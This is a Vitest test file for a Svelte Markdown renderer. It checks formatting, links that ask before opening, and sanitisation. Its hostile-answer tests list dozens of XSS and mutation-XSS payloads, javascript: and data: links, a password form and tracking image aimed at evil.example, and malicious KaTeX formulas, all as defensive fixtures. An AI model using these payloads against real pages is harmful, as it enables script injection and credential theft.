import { render } from '@testing-library/svelte';
import { describe, expect, it, vi } from 'vitest';
import { texts } from '../../../text';
import { safeAddress } from './links';
import { draw } from './maths';
import Markdown from './Markdown.svelte';

const asked = vi.fn();
vi.mock('../../../text', async (original) => ({ ...(await original<object>()), useText: () => texts.en }));
vi.mock('./asking', () => ({ useLinks: () => asked }));

function shown(source: string) {
  const { container } = render(Markdown, { source });
  return container;
}

/** Everything that an answer may consist of. */
const HARMLESS = new Set(
  'div p h2 h3 h4 h5 h6 ul ol li blockquote table thead tbody tr th td hr br strong em del code pre figure figcaption button span'.split(' '),
);

describe('an answer', () => {
  it('is set as it is meant', () => {
    const page = shown('# A\n\n**b** *c* ~~d~~ `e`\n\n1. f\n   - g\n\n| h | i |\n|---|--:|\n| j | k |\n\n> l\n\n---\n\n```js\nm\n```');
    const names = 'h2 strong em del code ol ul table th td blockquote hr pre'.split(' ');
    for (const name of names) expect(page.querySelector(name), name).not.toBeNull();
    expect(page.querySelector('td:last-child')!.className).toContain('right');
  });

  it('has unbreakable French punctuation in prose, and not in code', () => {
    const page = shown('Quoi ? « Oui » `a ? b`\n\n```\nc ? d : e\n```');
    expect(page.querySelector('p')!.textContent).toBe('Quoi\u202f? «\u00a0Oui\u00a0» a ? b');
    expect(page.querySelector('pre')!.textContent).toBe('c ? d : e');
  });

  it('shows entities as what they stand for, and code as it is', () => {
    expect(shown('a &lt;b&gt; &eacute; &#233; &amp;lt; `&lt;`').textContent).toBe('a <b> é é &lt; &lt;');
  });

  it('takes prices for prices, and formulas for formulas', () => {
    const formulas = (source: string) => [...shown(source).querySelectorAll('code')].map(({ textContent }) => textContent);
    expect(formulas('It costs $5 and then $10.')).toEqual([]);
    expect(formulas('So $x^2$ and \\(y\\).')).toEqual(['x^2', 'y']);
    expect(formulas('$$\nz\n$$\n\n\\[ w \\]')).toEqual(['z', 'w']);
  });

  it('asks before an address is opened', () => {
    const link = shown('[here](https://example.org/a)').querySelector<HTMLElement>('[role=link]')!;
    expect([link.tagName, link.hasAttribute('href')]).toEqual(['SPAN', false]);
    link.click();
    expect(asked).toHaveBeenCalledWith('https://example.org/a');
  });

  it('shows a picture as its words and its address', () => {
    expect(shown('![a cat](https://example.org/cat.png)').textContent).toContain('“a cat”: (https://example.org/cat.png)');
  });
});

describe('a hostile answer', () => {
  it.each([
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example></sCrIpT>',
    '<img src=x onerror=alert(1)>',
    'a <img src=x onerror=alert(1)> b',
    '![x](https://evil.example/track.png)',
    '![x"onerror="alert(1)](x)',
    '<svg onload=alert(1)><circle/></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href=https://evil.example/a.css>',
    '<style>body{display:none}</style>',
    '<div style="position:fixed;inset:0">x</div>',
    '<a id=app name=cookie href="javascript:alert(1)">x</a>',
    '<details open ontoggle=alert(1)>x</details>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<b onmouseover=alert(1)>x</b>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](<java\nscript:alert(1)>)',
    '[x](&#106;avascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](tauri://localhost)',
    '[x](//evil.example)',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
    '`</code><script>alert(1)</script>`',
    '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
    '- [ ] <img src=x onerror=alert(1)>',
    '# <img src=x onerror=alert(1)>',
    '<!-- --><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '$\\href{javascript:alert(1)}{x}$',
  ])('stays a text: %s', (source) => {
    const page = shown(source);
    for (const element of page.querySelectorAll('*')) {
      expect(HARMLESS, element.outerHTML).toContain(element.localName);
      for (const { name, value } of element.attributes) {
        expect(name, element.outerHTML).not.toMatch(/^on|^(?:href|src|srcdoc|style|id|name|action|data)$/);
        if (name !== 'aria-label') expect(value).not.toMatch(/script|data:/i);
      }
    }
    expect(page.querySelector('[role=link]')).toBeNull();
  });

  it.each([
    ['https://example.org', 'https://example.org/'],
    ['HTTP://example.org/a b', 'http://example.org/a%20b'],
    ['mailto:a@example.org', 'mailto:a@example.org'],
    ['javascript:alert(1)', null],
    ['https:evil', null],
    ['ht\ttps://example.org', null],
    ['\u0000https://example.org', null],
    ['data:text/html,x', null],
    ['relative/path', null],
    ['https://', null],
  ])('has the address %j opened as %j', (href, address) => expect(safeAddress(href)).toBe(address));

  it.each([
    '\\href{javascript:alert(1)}{x}',
    '\\url{javascript:alert(1)}',
    '\\includegraphics{https://evil.example/a.png}',
    '\\htmlStyle{position:fixed}{x}',
    '\\htmlId{app}{x}',
    '\\htmlData{a=b}{x}',
    '\\text{<script>alert(1)</script>}',
    '\\def\\a{\\a\\a}\\a',
    '{'.repeat(3000),
    '\\frac{1}{'.repeat(500) + '}'.repeat(500),
    '\\rule{1000em}{1000em}',
  ])('has no way out in a formula: %s', async (formula) => {
    const drawn = await draw(formula, true);
    if (drawn === null) return;
    const page = document.createElement('div');
    page.innerHTML = drawn;
    expect(page.querySelector('script, img, a, style, iframe, [href], [src], [style], [id], [onerror]')).toBeNull();
  });
});
